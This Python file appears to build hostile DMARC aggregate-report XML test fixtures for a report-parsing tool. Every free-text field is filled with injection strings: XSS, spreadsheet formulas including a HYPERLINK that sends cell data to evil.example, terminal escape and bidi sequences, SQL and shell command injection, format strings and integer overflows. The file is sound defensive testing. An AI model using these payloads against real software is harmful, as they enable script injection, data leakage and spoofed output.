# SPDX-License-Identifier: MIT
"""H10 markup, H11 formulas, H12 what steers terminals, H13 quotes, commands and overflows: in every free text."""

from xml.sax.saxutils import escape

from common import base, changed

# Every place of a report where a stranger's text is kept.
EVERY_TEXT = """<?xml version="1.0" encoding="UTF-8"?>
<feedback xmlns="urn:{attribute}">
  <version>{text}</version>
  <report_metadata>
    <org_name>{text}</org_name>
    <email>{text}</email>
    <extra_contact_info>{text}</extra_contact_info>
    <report_id>{id} {text}</report_id>
    <date_range><begin>1700000000</begin><end>1700086399</end></date_range>
    <error>{text}</error>
    <error>second {text}</error>
    <generator>{text}</generator>
  </report_metadata>
  <policy_published>
    <domain>{text}</domain>
    <p>none</p>
    <fo>{text}</fo>
  </policy_published>
  <record>
    <row>
      <source_ip>192.0.2.1</source_ip>
      <count>1</count>
      <policy_evaluated>
        <disposition>{text}</disposition>
        <dkim>pass</dkim>
        <spf>fail</spf>
        <reason><type>{text}</type><comment>{text}</comment></reason>
      </policy_evaluated>
    </row>
    <identifiers>
      <header_from>{text}</header_from>
      <envelope_from>{text}</envelope_from>
      <envelope_to>{text}</envelope_to>
    </identifiers>
    <auth_results>
      <dkim><domain>{text}</domain><selector>{text}</selector><result>pass</result><human_result>{text}</human_result></dkim>
      <spf><domain>{text}</domain><scope>mfrom</scope><result>pass</result><human_result>{text}</human_result></spf>
    </auth_results>
  </record>
  <record>
    <row><source_ip>{text}</source_ip><count>{text}</count></row>
    <identifiers><header_from>{text}</header_from></identifiers>
    <auth_results/>
  </record>
</feedback>
"""


def everywhere(report_id, text, in_namespace=None):
    text = escape(text).replace("\r", "&#13;")
    attribute = text.replace('"', "&quot;") if in_namespace is None else in_namespace
    return EVERY_TEXT.replace("{text}", text).replace("{id}", report_id).replace("{attribute}", attribute)


def add_texts(files):
    for row, name, text in (
            ("H10", "script", """<script>alert("1")</script>"""),
            ("H10", "image", """"><img src=x onerror='alert(1)'>"""),
            ("H10", "javascript", "javascript:alert(1)"),
            ("H10", "markdown", "| [a](javascript:alert(1)) `b` ![c](http://evil.example/) \\| *d* #"),
            ("H10", "long", "DMARC'd for death " * 14),
            ("H11", "equals", """=HYPERLINK("http://evil.example/?"&A1,"x")"""),
            ("H11", "plus", "+1+cmd|' /C calc'!A0"),
            ("H11", "minus", "-1+cmd|' /C calc'!A0"),
            ("H11", "at", "@SUM(A1:A9)"),
            ("H11", "tab", "\t=1+1"),
            ("H11", "return", "\r=1+1"),
            ("H11", "quote", '",=1+1,"'),
            ("H11", "lines", "a\n=1+1\r\n+2"),
            ("H12", "c1", "a\u009d0;owned\u009c\u009b31mb\u0085c"),
            ("H12", "delete", "paypal\u007f\u007f\u007fevil"),
            ("H12", "bidi", "a\u202Egnp.exe\u2066b\u2069\u061c\u200e"),
            ("H12", "invisible", "pay\u200bpal\u2060\ufeff\u00ad\u200d\u2028x"),
            ("H12", "tags", "a\U000E0041\U000E0042\U000E007F"),
            ("H12", "newlines", "a\nruascope: error: forged\n\tb"),
            ("H12", "backspaces", "a\\u{1B}[31m\\x1b[0m\\033[0m"),
            ("H13", "sql", """'; DROP TABLE report; --"""),
            ("H13", "sql-quote", '''" OR 1=1 UNION SELECT name FROM sqlite_schema --'''),
            ("H13", "shell", "$(touch /tmp/ruascope-hostile) `touch /tmp/ruascope-hostile` | sh; ../../x"),
            ("H13", "format", "%s%n%p {} {0} {:>99999999} {{"),
            ("H13", "wildcards", "%_*?[a-z]%"),
            ("H13", "json", '''\\"},"x":"\\u0000\\uD800'''),
    ):
        files.add(row, f"{name}.xml", "`" + ascii(text)[1:-1][:60].replace("|", "\\|").replace("`", "'") + "` in every text", everywhere(f"{row}-{name}", text))


def add_bytes(files):
    """What XML does not allow, so that it comes in as damage."""
    for name, text in (("escape", b"\x1b]0;owned\x07\x1b[31mred\x1b[2J"), ("bell", b"\x07\x08\x0c\x0e"),
                       ("c1-bytes", b"\x9d0;owned\x9c\x9b31m"), ("overlong", b"\xc0\xaf\xe0\x80\xaf\xc1\x9b31m"),
                       ("surrogates", b"\xed\xa0\x80\xed\xb0\x80")):
        data = everywhere(f"H12-{name}", "TEXT", "x").encode().replace(b"TEXT", b"a" + text + b"b")
        files.add("H12", f"{name}.xml", f"bytes {text[:12].hex(' ')} in every text", data)
    files.add("H12", "references.xml", "control characters as references",
              everywhere("H12-references", "TEXT", "x").replace("TEXT", "a&#27;]0;owned&#7;&#x9b;31m&#0;b"))
    files.add("H12", "xml-1.1.xml", "control characters as references, which XML 1.1 allows",
              everywhere("H12-xml-1.1", "TEXT", "x").replace("TEXT", "a&#27;]0;owned&#7;b").replace('"1.0"', '"1.1"'))
    files.add("H12", "element-names.xml", "elements whose names hold invisible characters",
              changed("H12-element-names", ("<report_metadata>\n", "<report_metadata>\n<a\u200d\u200cb/><c\u2070\ufdf2/>\n")))
    files.add("H12", "namespace.xml", "a namespace that steers terminals",
              changed("H12-namespace", ("<feedback>", '<feedback xmlns="urn:\u202e\u009b31m">')))
    files.add("H12", "prefix.xml", "an undeclared prefix that hides",
              changed("H12-prefix", ("<version>1.0</version>", "<v\u200d:version>1.0</v\u200d:version>")))
    files.add("H12", "root.xml", "a root element that is not feedback and hides",
              base("H12-root").replace("feedback", "f\u200deedback"))
    files.add("H12", "encoding.xml", "an encoding that steers terminals, and bytes in none",
              changed("H12-encoding", ("UTF-8", "x\x1b[31m-\u202e"), ("<org_name>reporter.example", "<org_name>\u00e9"))
              .encode().replace("\u00e9".encode(), b"\xe9"))
    files.add("H12", "entity.xml", "an undeclared entity whose name hides",
              changed("H12-entity", ("<org_name>reporter.example", "<org_name>reporter&a\u200db;&x\x1b[31m;")))


def number(report_id, count, more=""):
    return changed(report_id, ("<count>1</count>", f"<count>{count}</count>")).replace("</feedback>", more + "</feedback>")


def add_overflows(files):
    most = 2**63 - 1
    record = base("x")[base("x").index("  <record>"):base("x").index("</feedback>")]
    large = record.replace("<count>1<", f"<count>{most}<").replace("192.0.2.1", "192.0.2.2")
    files.add("H13", "sum.xml", "counts of 2^63-1 each", number("H13-sum", most, large))
    files.add("H13", "counts.xml", "counts that are no numbers of 63 bits",
              number("H13-counts", 1, "".join(record.replace("<count>1<", f"<count>{text}<") for text in (
                  most + 1, 2**64 + 1, -1, -most, "1e400", "0x10", "9" * 400, "1" + "0" * 18 + ".0"))))
    for name, begin, end in (("widest", -most - 1, most), ("last", most - 1, most), ("first", -most - 1, -most),
                             ("turned", most, -most - 1), ("beyond", 2**64, 2**65), ("far", 0, 99_999_999_999)):
        files.add("H13", f"period-{name}.xml", f"a period from {begin} to {end}",
                  changed(f"H13-period-{name}", ("1700000000", str(begin)), ("1700086399", str(end))))
    files.add("H13", "percent.xml", "a pct of 2^63", changed("H13-percent", ("<pct>100", f"<pct>{most + 1}")))
    hosts = "".join(record.replace("192.0.2.1", text) for text in (
        "0x7f000001", "127.1", "192.0.2.1/../../x", "::" + ":" * 5000, "1" * 5000, "192.0.2.1 ; id", "fe80::1%25eth0\n"))
    files.add("H13", "addresses.xml", "addresses that are none",
              base("H13-addresses").replace("</feedback>", hosts + "</feedback>"))


def add_to(files):
    add_texts(files)
    add_bytes(files)
    add_overflows(files)
